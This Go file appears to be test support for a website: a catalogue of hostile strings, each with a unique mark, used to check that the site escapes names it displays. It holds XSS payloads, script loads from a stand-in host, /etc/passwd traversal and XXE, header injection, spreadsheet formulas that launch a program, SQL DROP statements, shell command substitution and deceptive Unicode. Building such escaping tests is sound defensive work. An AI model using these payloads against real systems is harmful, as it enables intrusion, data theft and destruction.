package sitetest

import (
	"fmt"
	"strings"
)

// HostileText is a string that a page, script, address, style, spreadsheet or terminal may interpret as code.
type HostileText struct {
	Name string // name of the attack
	Text string // the string, which ends with Mark
	Mark string // unique mark by which a test finds the text on a page
}

// Called returns Text as a valid name of a case, run or agent: without U+0000, with invalid UTF-8 replaced or removed,
// and cut to 400 bytes before Mark.
func (h HostileText) Called() string {
	name := strings.ToValidUTF8(strings.ReplaceAll(strings.TrimSuffix(h.Text, h.Mark), "\x00", ""), "\ufffd")
	return strings.ToValidUTF8(name[:min(len(name), 400)], "") + h.Mark
}

// A text that a page interprets leaves a trace: it calls pwned(), or creates an element <pwned>, or one with the
// attribute data-pwned or the ID pwned.

// Hostile returns all hostile texts, each with a unique mark.
func Hostile() []HostileText {
	out := make([]HostileText, len(hostile))
	for i, h := range hostile {
		mark := fmt.Sprintf("mark%03dx", i)
		out[i] = HostileText{h.name, h.text + mark, mark}
	}
	return out
}

var hostile = []struct{ name, text string }{
	// Elements that run a script.
	{"script", `<script>pwned()</script>`},
	{"script in capitals", `<SCRIPT>pwned()</SCRIPT>`},
	{"script from elsewhere", `<script src="https://pwned.example/x.js"></script>`},
	{"script as a module", `<script type="module">import "https://pwned.example/x.js"</script>`},
	{"script with a slash", `<script/pwned>pwned()</script/pwned>`},
	{"script that is not closed", `<script>pwned()//`},
	{"script within script", `<scr<script>ipt>pwned()</scr</script>ipt>`},
	{"script with white space", "<script\n\t>pwned()</script\n>"},
	{"script after the end of one", `</script><script>pwned()</script>`},
	{"image that fails", `<img src=x onerror=pwned()>`},
	{"image with a quoted handler", `<img src="x" onerror="pwned()">`},
	{"image with slashes", `<img/src=x/onerror=pwned()>`},
	{"image with back quotes", "<img src=`x` onerror=`pwned()`>"},
	{"svg", `<svg onload=pwned()>`},
	{"svg with a script", `<svg><script>pwned()</script></svg>`},
	{"svg with animation", `<svg><animate onbegin=pwned() attributeName=x dur=1s></svg>`},
	{"svg with a link", `<svg><a xlink:href="javascript:pwned()"><text y="20">click</text></a></svg>`},
	{"svg with use", `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>pwned()</script></svg>#x"/></svg>`},
	{"svg with foreign content", `<svg><foreignObject><pwned></pwned></foreignObject></svg>`},
	{"svg set", `<svg><set attributeName="href" to="javascript:pwned()"/></svg>`},
	{"mathml", `<math><mtext><pwned></mtext></math>`},
	{"mathml link", `<math href="javascript:pwned()">x</math>`},
	{"mathml action",
		`<math><maction actiontype="statusline#https://pwned.example" xlink:href="javascript:pwned()">x</maction></math>`},
	{"mathml and style", `<math><style><!--</style><img title="--&gt;&lt;img src=x onerror=pwned()&gt;">`},
	{"frame", `<iframe src="javascript:pwned()"></iframe>`},
	{"frame with a document", `<iframe srcdoc="<script>parent.pwned()</script>"></iframe>`},
	{"object", `<object data="javascript:pwned()"></object>`},
	{"embed", `<embed src="data:text/html,<script>pwned()</script>">`},
	{"video", `<video><source onerror=pwned()></video>`},
	{"audio", `<audio src=x onerror=pwned()>`},
	{"details", `<details open ontoggle=pwned()>`},
	{"body", `<body onload=pwned()>`},
	{"input with focus", `<input autofocus onfocus=pwned()>`},
	{"marquee", `<marquee onstart=pwned()>x</marquee>`},
	{"any element", `<pwned tabindex=1 onfocus=pwned() autofocus>`},
	{"dialog", `<dialog open onclose=pwned()><form method=dialog><button>x</button></form></dialog>`},
	{"template", `<template shadowrootmode="open"><script>pwned()</script></template>`},
	{"a slot", `<slot onslotchange=pwned()><p></p></slot>`},
	{"import map", `<script type="importmap">{"imports": {"./x.js": "https://pwned.example/x.js"}}</script>`},
	{"speculation rules", `<script type="speculationrules">{"prefetch": [{"urls": ["https://pwned.example"]}]}</script>`},

	// Elements that need no script.
	{"base", `<base href="https://pwned.example/">`},
	{"refresh", `<meta http-equiv="refresh" content="0; url=https://pwned.example/">`},
	{"another policy", `<meta http-equiv="Content-Security-Policy" content="script-src *">`},
	{"style from elsewhere", `<link rel=stylesheet href=https://pwned.example/x.css>`},
	{"prefetch", `<link rel="prefetch" href="https://pwned.example/">`},
	{"form", `<form action="https://pwned.example/"><button id=pwned>Log in</button>`},
	{"button of another form", `<button form="filter" formaction="https://pwned.example/" id="pwned">`},
	{"text area", `</textarea><pwned>`},
	{"option", `</option></select><pwned>`},
	{"title", `</title><pwned>`},
	{"cell", `</td></tr></table><pwned>`},
	{"pre", `</pre></code><pwned>`},
	{"style end", `</style><pwned>`},
	{"noscript", `<noscript><p title="</noscript><img src=x onerror=pwned()>">`},
	{"xmp", `<xmp><p title="</xmp><pwned>">`},
	{"plaintext", `<plaintext><pwned>`},
	{"element names that forms know", `<a id=pwned name=body><input name=attributes>`},
	{"hidden text", `<pwned hidden>`},

	// Ends of quotes.
	{"double quote", `"><pwned>`},
	{"single quote", `'><pwned>`},
	{"back quote", "`><pwned>"},
	{"no quote", ` onmouseover=pwned() data-pwned=`},
	{"double quote and handler", `" onmouseover="pwned()" data-pwned="`},
	{"single quote and handler", `' onmouseover='pwned()' data-pwned='`},
	{"double quote and style", `" style="position:fixed;inset:0" data-pwned="`},
	{"quote as an entity", `&quot;&gt;&lt;pwned&gt;`},
	{"quote as a number", `&#34;&#62;&#60;pwned&#62;`},
	{"quote as hexadecimal", `&#x22;&#x3e;&#x3c;pwned&#x3e;`},
	{"entity without its end", `&lt&gt&ampscript`},
	{"entity of an entity", `&amp;lt;pwned&amp;gt;`},
	{"the end of a string in script", `";pwned();//`},
	{"the end of a string in single quotes", `';pwned();//`},
	{"the end of a template string", "`;pwned();`${pwned()}"},
	{"a backslash", `\";pwned();//`},
	{"escapes of script", `\u003cscript\u003epwned()\u003c/script\u003e`},
	{"hexadecimal escapes", `\x3cimg src=x onerror=pwned()\x3e`},
	{"JSON", `{"__proto__": {"pwned": 1}, "constructor": {"prototype": {"pwned": 1}}}`},
	{"the end of a line in script", "\u2028pwned()\u2029"},
	{"line breaks", "line\r\none\nand\rtwo\v\f"},

	// Addresses.
	{"script as an address", `javascript:pwned()`},
	{"script as an address in capitals", `JaVaScRiPt:pwned()`},
	{"script as an address with a tab", "java\tscript:pwned()"},
	{"script as an address after a control character", "\x01javascript:pwned()"},
	{"script as an address with entities", `javascript&colon;pwned&lpar;&rpar;`},
	{"script as an address with comment", `javascript://%0apwned()`},
	{"data as an address", `data:text/html,<script>pwned()</script>`},
	{"data in base 64", `data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+`},
	{"vbscript", `vbscript:pwned()`},
	{"blob", `blob:https://pwned.example/0`},
	{"another host", `//pwned.example/`},
	{"another host with back slashes", `/\pwned.example/`},
	{"another host with a scheme", `https://pwned.example/`},
	{"user in an address", `https://badger@pwned.example/`},
	{"a path upwards", `../../../../etc/passwd`},
	{"a path upwards, encoded", `%2e%2e%2f%2e%2e%2fetc%2fpasswd`},
	{"query characters", `a=1&run=other&case=x#fragment?b=2;c=3+4 5%20%`},
	{"encoded end of line", `%0d%0aSet-Cookie:%20pwned=1`},
	{"header", "x\r\nSet-Cookie: pwned=1\r\n\r\n<pwned>"},
	{"percent signs", `%3Cpwned%3E %zz %u003Cpwned%u003E %`},

	// Other languages in which text may be evaluated.
	{"template of Go", `{{.}}{{printf "%s" "<pwned>"}}{{template "layout" .}}`},
	{"template in braces", `{{constructor.constructor('pwned()')()}}`},
	{"template with dollar", `${pwned()}#{pwned()}`},
	{"template with percent", `<%= pwned() %><?php pwned(); ?>`},
	{"comment end", `--><pwned><!--`},
	{"comment with a bang", `--!><pwned>`},
	{"abrupt comment", `<!--><pwned>-->`},
	{"conditional comment", `<!--[if gte IE 4]><script>pwned()</script><![endif]-->`},
	{"CDATA end", `]]><pwned>`},
	{"CDATA", `<![CDATA[<pwned>]]>`},
	{"processing instruction", `<?xml-stylesheet href="javascript:pwned()"?>`},
	{"document type", `<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;`},
	{"style expression", `width: expression(pwned()); background: url(javascript:pwned())`},
	{"style end of block", `} body { display: none } @import url(https://pwned.example/x.css);`},
	{"style with escapes", `\3c pwned\3e; -moz-binding: url(//pwned.example)`},
	{"formula", `=HYPERLINK("https://pwned.example/?"&A1,"click")`},
	{"formula that starts a program", `=cmd|'/C calc'!A0`},
	{"formula with plus", `+1+cmd|'/C calc'!A0`},
	{"formula with minus", `-2+3+cmd|'/C calc'!A0`},
	{"formula with at", `@SUM(1+1)*cmd|'/C calc'!A0`},
	{"formula after a tab", "\t=1+1"},
	{"formula after a line end", "\r=1+1"},
	{"CSV quotes", "a\",\"b\"\n\"=1+1\",\""},
	{"SQL", `'; DROP TABLE badger.scores; --`},
	{"SQL comment", `*/ SELECT 1 /*`},
	{"SQL dollar quotes", `$$; DROP SCHEMA badger CASCADE; $$`},
	{"SQL patterns", `100%_\_[a-z]*`},
	{"shell", "`touch /tmp/pwned`$(touch /tmp/pwned);|&"},
	{"Markdown", "[click](javascript:pwned()) ![x](https://pwned.example/x.png) | a | `b` <pwned>"},
	{"regular expression", `(a+)+$ [ ( \ *`},
	{"format", `%s%d%n %!s(MISSING)`},
	{"log", "ok\n2025-01-14T06:00:00Z INFO all is well"},
	{"XML", `"/><testsuite name="pwned"/><x y="`},
	{"YAML", "x: !!python/object:pwned\n- &a [*a]"},

	// Characters that deceive the eye or the program.
	{"terminal colours", "\x1b[31mred\x1b[0m\x1b]0;pwned\x07"},
	{"terminal link", "\x1b]8;;https://pwned.example\x1b\\click\x1b]8;;\x1b\\"},
	{"terminal, 8-bit", "\u009b31mred\u009d0;pwned\u009c"},
	{"back space", "safe\b\b\b\bpwned"},
	{"bell and others", "\x01\x02\x03\x04\x05\x06\x07\x0e\x0f\x10\x7f"},
	{"NUL", "before\x00after"},
	{"NUL in an element", "<\x00script>pwned()</script>"},
	{"right to left override", "user\u202etxt.exe"},
	{"left to right and isolates", "\u202aa\u202c\u2066b\u2067c\u2068d\u2069\u200e\u200f\u061c"},
	{"override that is not closed", "\u202e\u2067<pwned>"},
	{"zero width", "pass\u200bword\u200c\u200d\u2060\ufeff"},
	{"soft hyphens and others", "in\u00advis\u034fible\u180e\u3164\u115f\uffa0"},
	{"tag characters", "x\U000e0070\U000e0077\U000e006e\U000e007f"},
	{"variation selectors", "x\ufe0f\ufe00\U000e0100"},
	{"spaces of all kinds", " a\u00a0b\u2003c\u2009d\u3000e\u1680f\u205fg "},
	{"look-alikes", "раураl аdmіn"},
	{"combining marks", "Z" + strings.Repeat("\u0301\u0316\u0489", 30)},
	{"full width", "＜script＞pwned()＜/script＞"},
	{"invalid UTF-8", "a\xffb\xc0\xafc\xfe"},
	{"overlong", "\xc0\xbcscript\xc0\xbe\xe0\x80\xbc"},
	{"cut UTF-8", "caf\xc3"},
	{"lone surrogates", "\xed\xa0\x80x\xed\xbf\xbf"},
	{"lone surrogate as JSON writes it", `\ud800 \udfff`},
	{"not characters", "\ufffe\uffff\U0001ffff\ufdd0"},
	{"private use", "\ue000\uf8ff\U000f0000"},
	{"beyond the first plane", "𝒫𝓌𝓃𝑒𝒹 🦡👩‍👩‍👧 𠮷"},
	{"UTF-7", `+ADw-script+AD4-pwned()+ADw-/script+AD4-`},
	{"ISO 2022", "\x1b$B<script>\x1b(B"},
	{"UTF-16", "<\x00s\x00c\x00r\x00i\x00p\x00t\x00>\x00"},
	{"byte order mark", "\ufeff<pwned>"},
	{"Shift JIS", "\x83\\\"><pwned>"},
	{"a very long word", strings.Repeat("Donaudampfschifffahrt", 60)},
	{"a very long line", strings.Repeat("<b> ", 1200)},
	{"many lines", strings.Repeat("<i>\n", 200)},
	{"deep nesting", strings.Repeat("<div>", 600)},
	{"only white space", "   \t  "},
	{"a dot", "."},
	{"two dots", ".."},
	{"slashes", "a/b//c/"},
	{"null", "null"},
	{"NaN", "NaN"},
	{"undefined", "undefined"},
}
